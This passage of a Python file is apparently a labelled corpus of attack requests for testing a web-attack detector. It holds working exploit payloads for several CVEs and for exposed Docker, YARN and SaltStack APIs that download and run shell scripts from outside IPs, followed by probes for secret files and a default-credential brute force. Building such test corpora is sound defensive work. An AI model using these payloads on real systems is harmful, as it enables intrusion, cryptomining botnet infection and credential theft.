    ("ssti", "CVE-2022-22954 VMware Workspace ONE freemarker deviceUdid injection",
     "path", "",
     "/catalog-portal/ui/oauth/verify?error=&deviceUdid=${\"freemarker.template.utility.Execute\"?new()"
     "(\"wget http://45.142.182.77/ws1.sh -O /tmp/ws1.sh\")}"),
    ("java", "CVE-2018-1000861 Jenkins checkScript Groovy sandbox bypass",
     "path", "",
     "/securityRealm/user/admin/descriptorByName/org.jenkinsci.plugins.scriptsecurity.sandbox.groovy."
     "SecureGroovyScript/checkScript?sandbox=true&value=public class x {public x(){\"curl -s http://45.142.182.77/jk.sh -o /tmp/jk.sh\".execute()}}"),

    # --- Exposed DevOps APIs hit by cryptomining botnets ---
    ("rce", "Exposed Docker Engine API container create with host mount (Kinsing/TeamTNT)",
     "raw", "",
     _raw("POST /v1.24/containers/create HTTP/1.1", "Host: 52.14.77.40:2375", _JSON, "User-Agent: Go-http-client/1.1",
          body='{"Image":"alpine","Cmd":["/bin/sh","-c","chroot /mnt sh -c \'curl -s http://45.9.148.35/d.sh|bash\'"],'
               '"HostConfig":{"Binds":["/:/mnt"],"Privileged":true,"NetworkMode":"host"}}')),
    ("rce", "Hadoop YARN ResourceManager unauthenticated application submit",
     "raw", "",
     _raw("POST /ws/v1/cluster/apps HTTP/1.1", "Host: 52.14.77.41:8088", _JSON, _UA_PY,
          body='{"application-id":"application_1527144634877_20465","application-name":"dr.who",'
               '"am-container-spec":{"commands":{"command":"wget -q -O - http://45.9.148.35/y.sh | bash"}},'
               '"application-type":"YARN"}')),
    ("rce", "CVE-2020-16846 SaltStack salt-api ssh_priv shell injection",
     "raw", "",
     _raw("POST /run HTTP/1.1", "Host: 52.14.77.42:8000", _JSON, _UA_PY,
          body='{"client":"ssh","tgt":"*","fun":"a","roster":"a","ssh_priv":"aaa|curl -s http://45.9.148.35/s.sh|sh;"}')),

    # --- Recon that precedes mass exploitation ---
    ("scanner", "Dotenv secrets probe", "path", "", "/.env"),
    ("scanner", "Exposed git config probe", "path", "", "/.git/config"),
    ("scanner", "WordPress config backup probe", "path", "", "/wp-config.php~"),
    ("scanner", "AWS credentials file probe", "path", "", "/.aws/credentials"),
    ("scanner", "Spring Boot actuator env exposure probe", "path", "", "/actuator/env"),
    ("scanner", "Symfony profiler phpinfo probe", "path", "", "/_profiler/phpinfo"),
    ("scanner", "Yii debug panel config probe", "path", "", "/debug/default/view?panel=config"),
    ("scanner", "VS Code SFTP deploy credentials probe", "path", "", "/.vscode/sftp.json"),
    ("scanner", "Xdebug remote debug session trigger probe", "path", "", "/index.php?XDEBUG_SESSION_START=phpstorm"),
    ("scanner", "Apache Shiro rememberMe cookie fingerprint probe", "cookie", "", "rememberMe=1"),
    ("scanner", "Tomcat manager default-credential brute force",
     "raw", "",
     _raw("GET /manager/html HTTP/1.1", "Host: 52.14.77.50:8080", "Authorization: Basic dG9tY2F0OnMzY3JldA==",
          "User-Agent: Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) "
          "Chrome/41.0.2228.0 Safari/537.36")),
    ("scanner", "zgrab banner grab",
     "raw", "",
     _raw("GET / HTTP/1.1", "Host: 52.14.77.51", "User-Agent: Mozilla/5.0 zgrab/0.x", "Accept: */*",
          "Accept-Encoding: gzip")),
    ("scanner", "Nuclei template scanner User-Agent",
     "header:User-Agent", "", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"),
    ("scanner", "Mass env-file probe with bare odd bot headers",
     "raw", "",
     _raw("GET /laravel/.env HTTP/1.1", "Host: 52.14.77.52", "User-Agent: l9explore/1.2.2",
          "Accept-Encoding: gzip", "Connection: close")),
    ("scanner", "Werkzeug debugger console probe", "path", "", "/console"),
    ("scanner", "Laravel Telescope exposure probe", "path", "", "/telescope/requests"),
    ("scanner", "Docker Engine API version probe",
     "raw", "",
     _raw("GET /v1.16/version HTTP/1.1", "Host: 52.14.77.53:2375", "User-Agent: Go-http-client/1.1",
          "Accept-Encoding: gzip")),
    ("scanner", "Sensitive phpinfo probe", "path", "", "/phpinfo.php"),
]
